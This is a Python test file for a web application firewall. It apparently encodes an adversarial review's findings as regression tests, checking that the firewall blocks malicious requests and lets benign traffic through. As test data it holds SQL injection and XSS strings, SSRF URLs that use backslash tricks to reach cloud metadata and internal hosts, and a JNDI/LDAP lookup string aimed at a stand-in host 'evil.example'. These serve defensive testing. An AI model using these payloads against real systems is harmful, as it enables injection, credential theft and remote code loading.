"""The WAF adversary's findings (adv-waf F1-F9), each an attack that passed or crashed before."""

from __future__ import annotations

import base64
import json
import os

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ramparts.gateway.waf.decode import decode
from ramparts.gateway.waf.engine import Waf, compile_exclusion
from ramparts.gateway.waf.request import DEFAULT_LIMITS, WafRequest

WAF = Waf()
SQLI = "x'\tor\t1=1--"


def _body(body: bytes, ctype: str = "", route: str = "POST /api/x") -> WafRequest:
    headers = [("content-type", ctype)] if ctype else []
    return WafRequest("POST", "/api/x", "", headers, body, ctype, route)


def _rules(req: WafRequest, waf: Waf = WAF) -> set[str]:
    return {m.rule for m in waf.inspect(req).matches}


# -- F1: a cost budget over what the full rule set scans -----------------------------------


def test_crafted_punctuation_body_is_refused_within_the_cost_budget() -> None:
    salt = os.urandom(3).hex()
    body = json.dumps([f"{salt}{i:04d}" + "; " * 122 for i in range(2000)]).encode()  # ~500 KB
    verdict = WAF.inspect(_body(body, "application/json"))
    assert verdict.blocked
    assert "protocol-inspection-limit" in {m.rule for m in verdict.matches}
    assert verdict.cost <= DEFAULT_LIMITS.max_cost


def test_crafted_text_body_is_refused_within_the_cost_budget() -> None:
    verdict = WAF.inspect(_body(b'"; ' * 150_000, "text/plain"))
    assert "protocol-inspection-limit" in {m.rule for m in verdict.matches}
    assert verdict.cost <= DEFAULT_LIMITS.max_cost


@pytest.mark.parametrize("ctype", ["application/json", "text/plain", ""])
def test_benign_100k_json_still_passes(ctype: str) -> None:
    """Also untyped: read field by field and as text, the text is charged only once."""
    note = "Order {}: it's fine (really) -- see #4; the customer said \"thanks!\" & paid. "
    doc = {"items": [{"id": i, "text": note.format(i) * 4} for i in range(300)]}
    body = json.dumps(doc).encode()
    assert len(body) > 100_000
    verdict = WAF.inspect(_body(body, ctype))
    assert not verdict.blocked, verdict.matches
    assert 0 < verdict.cost <= DEFAULT_LIMITS.max_cost


def test_untyped_json_of_crafted_structure_is_bounded() -> None:
    verdict = WAF.inspect(_body(("[" + "1, " * 170_000 + "1]").encode(), ""))
    assert "protocol-inspection-limit" in {m.rule for m in verdict.matches}
    assert verdict.cost <= DEFAULT_LIMITS.max_cost


# -- F2: a body that parses as JSON is inspected as JSON whatever its type ----------------


@pytest.mark.parametrize("ctype", ["text/plain", "", "application/octet-stream", "text/json"])
@pytest.mark.parametrize(
    "payload",
    [SQLI, "1\tunion\tselect\tpassword\tfrom\tusers", "<img\tsrc=x\tonerror=alert(1)>"],
)
def test_json_escapes_are_undone_in_untyped_json_bodies(ctype: str, payload: str) -> None:
    body = json.dumps({"user": payload, "pw": "x"}).encode()
    verdict = WAF.inspect(_body(body, ctype))
    assert verdict.blocked, (ctype, payload)
    assert any(m.location == "$.user" for m in verdict.matches)


def test_internal_url_in_untyped_json_is_a_whole_value() -> None:
    body = json.dumps({"a": "http://127.0.0.1:8081/admin"}).encode()
    assert "ssrf-internal-url" in _rules(_body(body, "text/plain"))


# -- F4: never crash on any input ---------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "body", "ctype"),
    [
        ("", json.dumps({"comment": "Looks great 👍"}).encode(), ""),
        ("", json.dumps({"comment": "Looks great 👍"}).encode(), "text/plain"),
        ("", b'{"code": "\\\\ud83d\\\\ude00"}', "application/json"),
        ("", b"a=%uD83D%uDE00&b=%uD83D", "application/x-www-form-urlencoded"),
        ("a=x%uDFFF%uD800&b=%uD83D%uDE00", b"", ""),
        ("", b"\\ud83d lone and \\udc00 \\ud800\\ud800", "text/plain"),
    ],
)
def test_escaped_emoji_and_lone_surrogates_are_benign(query: str, body: bytes, ctype: str) -> None:
    verdict = WAF.inspect(WafRequest("POST", "/api/x%uD83D", query, [], body, ctype, "POST /x"))
    assert not verdict.blocked, verdict.matches


def test_surrogate_pairs_join_and_lone_ones_are_replaced() -> None:
    assert decode("%uD83D%uDE00") == "\U0001f600"
    assert decode("\\ud83d\\ude00") == "\U0001f600"
    assert decode("a%uD83Db") == "a\ufffdb"
    decode("x%uDFFF%uD800").encode("utf-8")  # encodable: no lone surrogate left


_ODD = st.lists(
    st.one_of(
        st.characters(min_codepoint=0, max_codepoint=0x10FFFF),
        st.sampled_from(list("%u\\&#;x{}[]'\"<>`$@/-")),
        st.sampled_from(["%uD83D", "%uDE00", "\\ud800", "\\udfff", "%c0%af", "&#xd800;", "%ff"]),
    ),
    max_size=30,
).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=_ODD, raw=st.binary(max_size=80), ctype=st.sampled_from(
    ["", "text/plain", "application/json", "application/x-www-form-urlencoded",
     "multipart/form-data; boundary=b"]))
def test_engine_never_crashes_on_odd_input(value: str, raw: bytes, ctype: str) -> None:
    text = value.encode("utf-8", "surrogatepass")
    WAF.inspect(WafRequest("POST", "/p/" + value, "q=" + value, [("x-a", value)],
                           text + raw, ctype, "POST /p"))
    WAF.inspect(_body(json.dumps({value: [value]}).encode("utf-8", "surrogatepass"), ctype))
    WAF.inspect(_body(b"--b\r\nContent-Disposition: form-data; name=\"f\"\r\n"
                      b"Content-Type: text/plain; charset=utf-16\r\n\r\n" + raw + b"\r\n--b--",
                      "multipart/form-data; boundary=b"))


# -- F5: one stray byte does not turn inspection off ---------------------------------------


def test_text_body_with_a_stray_byte_is_inspected() -> None:
    assert WAF.inspect(_body(b"' or 1=1--\xff", "text/plain")).blocked
    assert WAF.inspect(_body(b"' or 1=1--\xff", "")).blocked


def test_binary_body_is_still_not_text() -> None:
    assert not WAF.inspect(_body(os.urandom(4096), "application/octet-stream")).matches


def _part(headers: str, content: bytes) -> WafRequest:
    body = (
        b'--b\r\nContent-Disposition: form-data; name="f"\r\n' + headers.encode() + b"\r\n\r\n"
        + content + b"\r\n--b--\r\n"
    )
    return _body(body, "multipart/form-data; boundary=b")


@pytest.mark.parametrize(
    ("headers", "content"),
    [
        ("Content-Type: text/plain", b"' or 1=1--\xff"),
        ("", b"' or 1=1--\xff"),
        ("Content-Type: text/plain; charset=utf-16", "' or 1=1--".encode("utf-16")),
        ("Content-Transfer-Encoding: base64", base64.b64encode(b"' or 1=1--")),
        ("Content-Type: text/plain; charset=utf-16", b"' or 1=1--"),  # declared, not true
    ],
)
def test_multipart_text_parts_are_inspected_however_encoded(headers: str, content: bytes) -> None:
    verdict = WAF.inspect(_part(headers, content))
    assert verdict.blocked, (headers, verdict.matches)
    assert any(m.location == "form.f" for m in verdict.matches)


# -- F6: every host a client library could read --------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://evil.com\\@169.254.169.254/latest/meta-data/iam/",
        "http://evil.com\\@metadata.google.internal/computeMetadata/v1/",
        "http://evil.com\\@127.0.0.1:22081/v1/apps",
        "http://evil.com\\@[::1]/",
        "http://evil.com\\@10.0.0.5:2379/",
        "http://a@evil.com\\@127.0.0.1/",
    ],
)
def test_backslash_userinfo_host_differential(url: str) -> None:
    assert "ssrf-internal-url" in _rules(_body(json.dumps({"u": url}).encode(), "application/json"))
    embedded = json.dumps({"u": f"fetch this one please {url} thanks"}).encode()
    assert "ssrf-embedded-url" in _rules(_body(embedded, "application/json"))


def test_external_url_with_backslash_is_not_internal() -> None:
    body = json.dumps({"u": "http://example.com\\@example.org/x"}).encode()
    assert not _rules(_body(body, "application/json")) & {"ssrf-internal-url"}


# -- F8: exclusions name one field exactly --------------------------------------------------

XSS = "<img src=x onerror=alert(1)>"


def test_json_exclusion_does_not_cover_sibling_keys_with_its_prefix() -> None:
    waf = Waf(exclusions=[compile_exclusion("POST /comments", "$.comment", ["xss"])])

    def blocked(doc: object) -> bool:
        return waf.inspect(_body(json.dumps(doc).encode(), "application/json",
                                 "POST /comments")).blocked

    assert not blocked({"comment": XSS})
    assert not blocked({"comment": {"x": XSS}})  # under it: covered
    assert blocked({"comment.x": XSS})
    assert blocked({"comment[0]": XSS})
    assert blocked({f"comment.{XSS}": 1})
    assert blocked({"commentary": XSS})


def test_query_exclusion_is_one_parameter() -> None:
    waf = Waf(exclusions=[compile_exclusion("*", "query.q", ["sqli"])])
    sqli = "1' OR '1'='1"

    def blocked(name: str) -> bool:
        req = WafRequest("GET", "/x", f"{name}={sqli.replace(' ', '+')}", [], b"", "", "GET /x")
        return waf.inspect(req).blocked

    assert not blocked("q")
    for name in ("q.x", "q[]", "q[a]", "qq"):
        assert blocked(name), name


def test_quoted_json_key_and_wildcard_index() -> None:
    dotted = Waf(exclusions=[compile_exclusion("*", "$['comment.x']", ["xss"])])
    req = _body(json.dumps({"comment.x": XSS}).encode(), "application/json")
    assert not dotted.inspect(req).blocked
    assert dotted.inspect(_body(json.dumps({"comment": {"x": XSS}}).encode(),
                                "application/json")).blocked
    arrays = Waf(exclusions=[compile_exclusion("*", "$.items[*].note", [])])
    assert not arrays.inspect(_body(json.dumps({"items": [{"note": XSS}]}).encode(),
                                    "application/json")).matches
    assert arrays.inspect(_body(json.dumps({"items": {"0": {"note": XSS}}}).encode(),
                                "application/json")).blocked  # "0" is a key, not an index


def test_form_exclusion_covers_its_file_name() -> None:
    waf = Waf(exclusions=[compile_exclusion("*", "form.f", ["xss"])])
    body = (b'--b\r\nContent-Disposition: form-data; name="f"; filename="' + XSS.encode()
            + b'"\r\n\r\nhello\r\n--b--\r\n')
    assert not waf.inspect(_body(body, "multipart/form-data; boundary=b")).blocked


# -- F9: headers that reach handlers are inspected -------------------------------------------


@pytest.mark.parametrize(
    "header",
    ["host", "x-real-ip", "cf-connecting-ip", "accept", "cache-control", "if-none-match",
     "content-disposition", "idempotency-key", "traceparent", "range", "prefer", "api-key"],
)
def test_client_headers_are_inspected(header: str) -> None:
    jndi = "${jndi:ldap://evil.example/a}"
    req = WafRequest("GET", "/x", "", [(header, jndi)], b"", "", "GET /x")
    assert WAF.inspect(req).blocked, header


def test_ordinary_browser_and_proxy_headers_pass() -> None:
    headers = [
        ("host", "127.0.0.1:8080"),
        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("accept-encoding", "gzip, deflate, br"),
        ("cache-control", "max-age=0"),
        ("if-none-match", 'W/"5e-17a3"'),
        ("x-real-ip", "127.0.0.1"),
        ("cf-connecting-ip", "10.0.0.7"),
        ("x-forwarded-for", "127.0.0.1, 10.0.0.1"),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("range", "bytes=0-1023"),
        ("content-disposition", 'attachment; filename="report 2024.pdf"'),
        ("sec-ch-ua", '"Chromium";v="118", "Google Chrome";v="118", "Not=A?Brand";v="99"'),
        ("sec-fetch-mode", "navigate"),
        ("upgrade-insecure-requests", "1"),
    ]
    verdict = WAF.inspect(WafRequest("GET", "/x", "", headers, b"", "", "GET /x"))
    assert not verdict.matches, verdict.matches


# -- F3: junk after an SQL line comment does not make an injection "long text" --------------


@pytest.mark.parametrize(
    "payload",
    [
        "' or 2>1-- a b c d e f g h i j k l",
        "x' or name is not null-- a b c d e f g h i j k",
        "' or 1 in (1)-- a b c d e f g h i j k l",
        "' and (select count(*) from users)>0-- a b c d e f g h i j k l",
        "x' AND substr(password,1,1)='a' -- a b c d e f g h i j k",
        "' or 1=1# a b c d e f g h i j k l",
    ],
)
def test_words_after_a_line_comment_do_not_hide_sqli(payload: str) -> None:
    assert WAF.inspect(_body(json.dumps({"user": payload}).encode(), "application/json")).blocked


@pytest.mark.parametrize(
    "prose",
    [
        "don't -- please, I mean it, really really really really really",
        "Hi -- it's O'Brien here, with a question about my order number",
        "Item #4 is fine but it's late and I'd like a refund please today",
    ],
)
def test_prose_with_dashes_or_hashes_passes(prose: str) -> None:
    assert not WAF.inspect(_body(json.dumps({"note": prose}).encode(), "application/json")).blocked


def test_declared_charset_does_not_hide_a_utf8_payload() -> None:
    """Handlers that ignore the charset read UTF-8: both readings are inspected."""
    assert WAF.inspect(_body(b"' or 1=1--", "text/plain; charset=utf-16")).blocked
    assert WAF.inspect(_body("' or 1=1--".encode("utf-16"), "text/plain; charset=utf-16")).blocked
    assert not WAF.inspect(_body("Grüße".encode("latin-1"), "text/plain; charset=latin-1")).matches
